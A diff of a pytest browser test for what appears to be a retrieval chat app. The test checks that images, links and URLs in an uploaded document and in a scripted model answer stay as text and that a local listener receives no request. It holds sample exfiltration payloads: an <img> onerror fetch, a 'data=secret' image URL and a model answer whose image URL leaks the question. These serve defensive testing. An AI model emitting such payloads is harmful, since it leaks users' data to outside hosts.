@@ -3,7 +3,9 @@
 A document holds a Markdown image, an <img> tag, a link and a bare URL, all pointing at a local
 listener; the model (scripted here: the real ones cannot be made to write a given image) answers
 with an exfiltrating image. The page must show the passage and the answer as text, and the
-listener must see no request at all.
+listener must see no request at all. The model's words are checked while they stream: the final
+answer keeps only sentences that verify against the documents (rag/chain.py), so an image the
+model made up is on screen only then, which is exactly when it must stay text.
 """
 
 from __future__ import annotations
@@ -15,10 +17,9 @@ import time
 import pytest
 
 import docgen
-from conftest import free_port
-from fakes import scripted_llm
+from conftest import launched_app, open_page
+from fakes import slow_scripted_llm
 from rag.settings import Settings
-from test_browser import CHROMIUM_ARGS, browser, chromium  # noqa: F401  (fixtures)
 
 pytestmark = pytest.mark.slow
 
@@ -47,7 +48,7 @@ def listener():
         httpd.server_close()
 
 
-def test_remote_images_and_links_are_text_and_never_fetched(browser, listener, tmp_path, monkeypatch):  # noqa: F811
+def test_remote_images_and_links_are_text_and_never_fetched(browser, listener, tmp_path, monkeypatch):
     import rag.llm
     from rag.app.web import build_app
 
@@ -59,36 +60,43 @@ def test_remote_images_and_links_are_text_and_never_fetched(browser, listener, t
         f'<img src="x" onerror="fetch(\'{base}/onerror\')"> [the chart]({base}/doc-link) {base}/bare\n',
     )
     answer = f"The beacon is lit at dusk [1]. ![x]({base}/answer-leak?q=history) <img src={base}/answer-tag>"
-    monkeypatch.setattr(rag.llm, "make_llm", lambda settings: scripted_llm(answer))
+    monkeypatch.setattr(rag.llm, "make_llm", lambda settings: slow_scripted_llm(answer, delay=0.3))
 
     demo = build_app(Settings(data_dir=tmp_path / "data", collection="remote", public=True, temperature=0.0))
-    port = free_port()
-    demo.queue()
-    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
-    context = browser.new_context(viewport={"width": 1400, "height": 900})
+    with launched_app(demo) as url:
+        _check_page(browser, url, doc, base, seen)
+
+
+def _check_page(browser, url, doc, base, seen):
+    context, page = open_page(browser, url)
     try:
-        page = context.new_page()
-        page.set_default_timeout(60_000)
-        page.goto(f"http://127.0.0.1:{port}/", wait_until="domcontentloaded")
         page.locator("#upload input[type=file]").set_input_files(str(doc))
         page.locator("#upload-status").filter(has_text="added").wait_for(timeout=180_000)
 
         page.locator("#question textarea").fill("When is the beacon on Skarv island lit?")
         page.locator("#ask").click()
         sources = page.locator("#sources")
-        sources.filter(has_text="beacon.md").wait_for(timeout=120_000)
-        page.locator("#chat").filter(has_text="lit at dusk").wait_for(timeout=60_000)
+        chat = page.locator("#chat")
+        streamed = None  # the chat while the model's image was on screen
+        deadline = time.monotonic() + 120
+        while "beacon.md" not in sources.inner_text():
+            text = chat.inner_text()
+            if "answer-leak" in text and streamed is None:
+                streamed = text
+                assert page.locator("#chat img[src*='127.0.0.1']").count() == 0, chat.inner_html()
+            assert time.monotonic() < deadline, f"no sources after 120 s; chat: {text!r}"
+            time.sleep(0.1)
         time.sleep(2)  # give any image request time to arrive
 
         shown = sources.inner_text()
-        chat = page.locator("#chat").inner_text()
-        print(f"\nsources as shown: {shown!r}\nchat as shown: {chat!r}\nlistener saw: {seen}")
+        print(f"\nsources as shown: {shown!r}\nchat while streaming: {streamed!r}\n"
+              f"chat at the end: {chat.inner_text()!r}\nlistener saw: {seen}")
         assert f"{base}/doc-image?data=secret" in shown and "doc-link" in shown  # shown as text
-        assert "answer-leak" in chat
+        assert streamed is not None, "the model's image never showed as text while it streamed"
+        assert "lit at dusk" in chat.inner_text()
         for area in ("#sources", "#chat"):
             assert page.locator(f"{area} img[src*='127.0.0.1']").count() == 0
             assert page.locator(f"{area} a[href*='127.0.0.1']").count() == 0
         assert seen == [], f"the browser fetched {seen}"
     finally:
         context.close()
-        demo.close()
